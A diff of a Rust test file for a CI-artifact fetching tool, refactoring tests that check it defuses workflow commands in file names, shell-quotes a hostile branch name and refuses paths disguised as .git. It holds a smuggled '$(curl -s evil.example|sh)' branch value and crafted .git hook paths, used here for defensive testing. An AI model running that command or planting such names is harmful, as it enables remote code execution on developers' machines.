@@ -28,13 +28,7 @@ fn artifact_with(files: &[(&str, &[u8])], edit: impl FnOnce(&mut serde_json::Val
 #[test]
 fn fetch_output_defuses_workflow_commands_in_file_and_artifact_names() {
     let w = World::new();
-    let names = [
-        "tests/integration/recordings/x##[error]pwned.json",
-        "tests/integration/recordings/##[add-mask]secret.json",
-        "tests/integration/recordings/##[set-output name=x]y.json",
-        "tests/integration/recordings/##[stop-commands]tok.json",
-        // `::warning::x.json` has colons: refused as a Windows stream name (see the NTFS test).
-    ];
+    let names = crate::support::zips::WORKFLOW_COMMAND_NAMES;
     let files: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, &b"{}\n"[..])).collect();
     let run = w.run_with(vec![(
         "recordings-##[error]artifact",
@@ -101,21 +95,10 @@ fn fetch_shell_quotes_a_hostile_branch_in_the_command_it_suggests() {
     spec.event = "pull_request".into();
     spec.head_repository = FORK.into();
     let run = w.fake.add_run(UPSTREAM, spec);
-    w.fake.add_artifact(
-        UPSTREAM,
-        run,
-        "recordings-1-1-record",
-        artifact(&[(A, "x\n")]),
-        true,
-    );
+    w.expired_artifact(run);
 
     let out = w.fetch_run(run).run().failure();
-    assert!(
-        out.stderr
-            .contains("rerecord schedule --branch '$(curl -s evil.example|sh)'"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("rerecord schedule --branch '$(curl -s evil.example|sh)'");
 }
 
 #[test]
@@ -130,11 +113,7 @@ fn fetch_refuses_a_manifest_that_deletes_a_recordings_directory() {
     let out = w.fetch_run(run).run().failure();
     assert_eq!(w.snapshot(), before, "{}", out.stderr);
     assert_eq!(w.read(B), "{\"b\": 1}\n");
-    assert!(
-        out.stderr.contains("tests/integration/agents/recordings"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("tests/integration/agents/recordings");
 }
 
 #[test]
@@ -149,31 +128,38 @@ fn fetch_refuses_names_that_differ_only_by_unicode_normalisation_or_case() {
             ("recordings-2", artifact(&[(second, "two\n")])),
         ]);
         let out = w.fetch_run(run).run().failure();
-        assert!(
-            out.stderr.contains("names differ only in case or Unicode"),
-            "{}",
-            out.stderr
-        );
+        out.assert_stderr_has("names differ only in case or Unicode");
         assert_eq!(w.snapshot(), before);
     }
 }
 
 #[test]
 fn fetch_refuses_entries_that_macos_or_windows_would_read_as_dot_git() {
-    for (case, name) in [
+    let as_git = "that macOS or Windows would read as .git";
+    for (case, name, why) in [
         (
             "zero_width",
             "tests/integration/recordings/.g\u{200c}it/hooks/post-checkout",
+            as_git,
         ),
-        ("short_name", "tests/integration/recordings/GIT~1/config"),
-        ("trailing_dot", "tests/integration/recordings/.git. /config"),
+        (
+            "short_name",
+            "tests/integration/recordings/GIT~1/config",
+            as_git,
+        ),
+        (
+            "trailing_dot",
+            "tests/integration/recordings/.git. /config",
+            "has a segment ending in a dot or space (ambiguous on Windows)",
+        ),
         (
             "stream",
             "tests/integration/recordings/.git::$INDEX_ALLOCATION/config",
+            "contains a colon (Windows reads `name:stream` as a stream of `name`)",
         ),
     ] {
         let w = World::new();
-        let out = w.assert_refused(artifact(&[(name, "#!/bin/sh\n")]), &[]);
+        let out = w.assert_refused(artifact(&[(name, "#!/bin/sh\n")]), &[why]);
         assert!(!out.stderr.contains('\u{200c}'), "{:?}", out.stderr);
         crate::cli::redacted(|| {
             let snapshot = format!("fetch_refuses_an_unsafe_path_{case}");
@@ -232,12 +218,7 @@ fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
         .env("RERECORD_MAX_TOTAL_SIZE", "4000")
         .run()
         .failure();
-    assert!(
-        out.stderr
-            .contains("over the 4000 byte limit for all artifacts of a run"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("over the 4000 byte limit for all artifacts of a run");
     assert_eq!(w.snapshot(), before);
     let downloads = w
         .fake
@@ -267,12 +248,7 @@ fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
         .env("RERECORD_MAX_TOTAL_SIZE", "5000")
         .run()
         .failure();
-    assert!(
-        out.stderr
-            .contains("the limit for all artifacts of a run together"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("the limit for all artifacts of a run together");
     assert_eq!(w.snapshot(), before);
 }
 
@@ -333,10 +309,6 @@ fn fetch_stops_reading_an_api_answer_that_never_ends() {
         ])
         .run()
         .failure();
-    assert!(
-        out.stderr.contains("larger than 8388608 bytes"),
-        "{}",
-        out.stderr
-    );
+    out.assert_stderr_has("larger than 8388608 bytes");
     assert!(started.elapsed() < std::time::Duration::from_secs(60));
 }
